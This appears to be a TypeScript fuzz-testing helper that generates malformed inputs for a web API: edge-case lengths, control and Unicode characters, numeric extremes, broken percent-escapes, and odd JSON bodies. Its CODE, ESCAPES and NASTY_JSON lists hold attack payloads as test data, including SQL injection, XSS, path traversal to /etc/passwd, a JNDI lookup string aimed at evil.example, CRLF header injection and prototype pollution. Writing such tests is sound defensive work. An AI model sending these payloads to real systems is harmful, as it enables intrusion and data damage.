import type { seeded } from '../random.ts';

export type Random = ReturnType<typeof seeded>;

/**
 * Ways in which an input can be bad. The first ones are kinds of text; `combined` is not: it has fields as defined in
 * the contract.
 */
export const TEXT_KINDS = [
  'length',
  'wildcards',
  'control',
  'whitespace',
  'digits',
  'unicode',
  'code',
  'escapes',
] as const;
export const KINDS = [...TEXT_KINDS, 'empty', 'repeated', 'unknown', 'shape', 'combined'] as const;
export type TextKind = (typeof TEXT_KINDS)[number];
export type Kind = (typeof KINDS)[number];

const LONE_HIGH = '\ud800';
const LONE_LOW = '\udfff';
/** Lengths around the limits of SQLite, D1, the contract and a request line. */
const LENGTHS = [24, 25, 48, 49, 50, 51, 63, 64, 65, 99, 100, 101, 254, 255, 256, 1_000, 2_001, 10_000];
const WILDCARDS = [
  '%',
  '_',
  '*',
  '?',
  '[',
  ']',
  '^',
  '[0-9]',
  '[a-',
  '\\',
  '%%',
  '_%',
  '"',
  '""',
  "'",
  '(',
  ')',
  'NEAR(',
  ' AND ',
  ' OR ',
  ' NOT ',
  'a*',
  '-a',
  '+',
  ':',
  '{',
  '}',
  '^a',
  '"a',
  ' MATCH ',
];
const CONTROL = [
  '\0',
  '\u0001',
  '\b',
  '\t',
  '\n',
  '\r',
  '\r\n',
  '\v',
  '\f',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u2028',
  '\u2029',
  'a\0b',
  '\0\0\0',
];
const WHITESPACE = [
  ' ',
  '  ',
  '\t',
  '\u00a0',
  '\u1680',
  '\u180e',
  '\u2003',
  '\u200b',
  '\u200d',
  '\u2060',
  '\u202f',
  '\u205f',
  '\u3000',
  '\ufeff',
  '\u2800',
  '\u3164',
  '\u115f',
  ' \u00a0\u3000 ',
];
const DIGITS = [
  '0',
  '-0',
  '-1',
  '00',
  '01',
  '1.5',
  '1e9',
  '1e400',
  '-1e-400',
  '0x10',
  '0b1',
  '1_000',
  '+1',
  '1n',
  'NaN',
  'Infinity',
  '-Infinity',
  '2147483648',
  '9007199254740993',
  '9223372036854775808',
  '18446744073709551616',
  '٣٤',
  '１２',
  '½',
  '²',
  'Ⅷ',
  '0000-00-00',
  '9999-99-99',
  '2026-02-30',
  '1970-01',
  '+275760-09-13',
  '%31',
];
const UNICODE = [
  `a${'\u0301'.repeat(60)}`,
  '\u0301',
  '\u20e3',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢',
  '👩‍👩‍👧‍👦',
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '💡',
  '\u202e',
  'a\u202etxt.exe',
  'محمد',
  'שלום',
  '李小龙',
  'Иван',
  'Łukasz',
  'İstanbul',
  'ß',
  'ﬃ',
  'ﷺ',
  '𝕊𝕞𝕚𝕥𝕙',
  'ｓｍｉｔｈ',
  'ǅ',
  'ŉ',
  '\uffff',
  '\ufdd0',
  '\u{10ffff}',
  '\u{e0041}',
  LONE_HIGH,
  LONE_LOW,
  `a${LONE_HIGH}`,
  `${LONE_LOW}${LONE_HIGH}`,
  'ʼ',
  '’',
  '\u00ad',
];
const CODE = [
  "' OR 1=1--",
  "'; DROP TABLE person; --",
  '?1',
  '?999',
  ':name',
  '@x',
  '$1',
  '\u0024{7*7}',
  '{{7*7}}',
  '#{x}',
  '<script>alert(1)</script>',
  '</script><!--',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=1>',
  'javascript:alert(1)',
  '//evil.example',
  '\\\\evil.example',
  '../../etc/passwd',
  '..',
  '.',
  '/',
  '%2e%2e%2f',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'prototype',
  'then',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '[object Object]',
  'json_each(1)',
  'a,b',
  'a;b',
  'a|b',
  '&',
  '=',
  '&page=2',
  '#',
  '-',
  '--',
  '_',
  'PP',
  'con',
  '${'.concat('jndi:ldap://evil.example}'),
];
/** Texts that go into an address unchanged: broken escapes, overlong forms, escapes of escapes. */
const ESCAPES = [
  '%',
  '%2',
  '%zz',
  '%u0041',
  '%00',
  '%c3%28',
  '%ff',
  '%c0%ae',
  '%ed%a0%80',
  '%ed%bf%bf',
  '%f4%90%80%80',
  '%e2%80%a8',
  '%0d%0aSet-Cookie:x=1',
  '%25',
  '%2525',
  '%252e%252e',
  '%2f',
  '%5c',
  '%23',
  '%3f',
  '%26',
  '%2B',
  '+',
  '%20',
  '%e3%80%80',
  '%C2%A0',
  '%EF%BF%BF',
];

/** A text of a kind; `most` is the maximum length, if known. */
export function nastyText(kind: TextKind, random: Random, most = 100): string {
  switch (kind) {
    case 'length': {
      const unit = random.pick(['a', 'A', '1', 'a ', '1 ', 'ab-', 'X', 'é', '💡', 'ﷺ', '.', "'", 'St ']);
      const length = random.pick([...LENGTHS, most - 1, most, most + 1]);
      return unit.repeat(Math.max(1, Math.ceil(length / unit.length))).slice(0, Math.max(1, length));
    }
    case 'wildcards':
      return some(random, WILDCARDS, most);
    case 'control':
      return some(random, CONTROL, most);
    case 'whitespace':
      return some(random, WHITESPACE, most);
    case 'digits':
      return random.below(2) === 0 ? String(random.below(10)).repeat(1 + random.below(most)) : random.pick(DIGITS);
    case 'unicode':
      return some(random, UNICODE, most);
    case 'code':
      return random.pick(CODE);
    case 'escapes':
      return random.pick(ESCAPES);
  }
}

/** One of them, or many repeated. */
function some(random: Random, pieces: readonly string[], most: number): string {
  const count = random.pick([1, 1, 1, 2, 3, 26, most]);
  return Array.from({ length: count }, () => random.pick(pieces)).join('');
}

/** Keys with a meaning in JavaScript or frameworks, or with none at all. */
export const NASTY_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'x',
  'x[]',
  'x[a]',
  '',
  ' ',
  '\0',
  '%',
  'page',
  'limit',
  'offset',
  'ID',
  'a'.repeat(300),
  'name.first',
  '$where',
  '💡',
] as const;

const SURROGATE = /^[\ud800-\udfff]$/;

/** A text encoded for an address, including lone surrogates, which encodeURIComponent refuses. */
export function percentEncode(text: string): string {
  return Array.from(text, (mark) => {
    if (/^[A-Za-z0-9\-._~]$/.test(mark)) return mark;
    const bytes = SURROGATE.test(mark) ? bytesOfSurrogate(mark.charCodeAt(0)) : [...Buffer.from(mark, 'utf8')];
    return bytes.map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
  }).join('');
}

function bytesOfSurrogate(code: number): number[] {
  return [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)];
}

/** Values of the wrong shape, as JSON text. */
export const NASTY_JSON = [
  'null',
  '[]',
  '{}',
  '[[]]',
  '""',
  '"x"',
  '0',
  '-0',
  '1e400',
  '-1e400',
  '1e-400',
  '123456789012345678901234567890',
  'true',
  'false',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{}}}',
  '{"toString":1}',
  '{"length":1e9}',
  '["a","a","a"]',
  '"\\ud800"',
  '"\\u0000"',
  `"${'x'.repeat(2_000)}"`,
  `${'['.repeat(500)}${']'.repeat(500)}`,
  `${'{"a":'.repeat(500)}1${'}'.repeat(500)}`,
] as const;

/** Bodies that are not JSON objects. */
export const NASTY_BODIES = [
  '',
  ' ',
  '{',
  '}',
  'null',
  '[]',
  '"x"',
  '1',
  '{"a":1}{',
  '{"a":1,}',
  "{'a':1}",
  '\ufeff{}',
  '{"a":NaN}',
  'a=1&b=2',
  '<a/>',
  '\0',
  `${'['.repeat(30_000)}`,
  `${'{"a":'.repeat(10_000)}`,
  `{"a":"${'x'.repeat(70_000)}"}`,
  `[${'0,'.repeat(10_000)}0]`,
  '{"a":1,"a":2}',
  '{"__proto__":{"x":1}}',
] as const;

/** Longest address that Cloudflare passes on, in bytes; longer requests never reach a worker. */
const ADDRESS_MAX = 16_000;

/** An address short enough to reach a worker. */
export const fittingAddress = (address: string): string => address.slice(0, ADDRESS_MAX);
